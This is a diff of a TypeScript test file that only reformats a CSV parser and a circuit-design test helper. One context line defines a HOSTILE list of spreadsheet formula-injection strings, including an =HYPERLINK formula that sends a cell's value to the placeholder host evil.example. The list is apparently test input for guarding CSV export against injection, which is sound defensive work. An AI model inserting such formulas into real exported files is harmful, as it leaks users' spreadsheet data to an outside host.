@@ -29,8 +29,7 @@ function parseCsv(text: string): string[][] {
       rows.push(row);
       row = [];
       field = "";
-    }
-    else field += ch;
+    } else field += ch;
   }
   return rows;
 }
@@ -40,10 +39,20 @@ const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1+1", "-2+
 function designWith(states: string[], conditionId = "lever") {
   return compileDesign(
     makeDesign({
-      conditions: [[conditionId, states], ["thr", ["released", "applied"]]],
+      conditions: [
+        [conditionId, states],
+        ["thr", ["released", "applied"]],
+      ],
       contacts: [["C1", conditionId, [states[0]!]]],
-      inputs: [["PWR", "power"], ["EN", "enable"]],
-      wires: [["BAT.+", "C1.1"], ["C1.2", "PWR.in"], ["C1.2", "EN.in"]],
+      inputs: [
+        ["PWR", "power"],
+        ["EN", "enable"],
+      ],
+      wires: [
+        ["BAT.+", "C1.1"],
+        ["C1.2", "PWR.in"],
+        ["C1.2", "EN.in"],
+      ],
       throttle: { condition: "thr", released: ["released"], applied: ["applied"] },
       rules: [inhibit("r1", is(conditionId, states[1]!))],
     }),
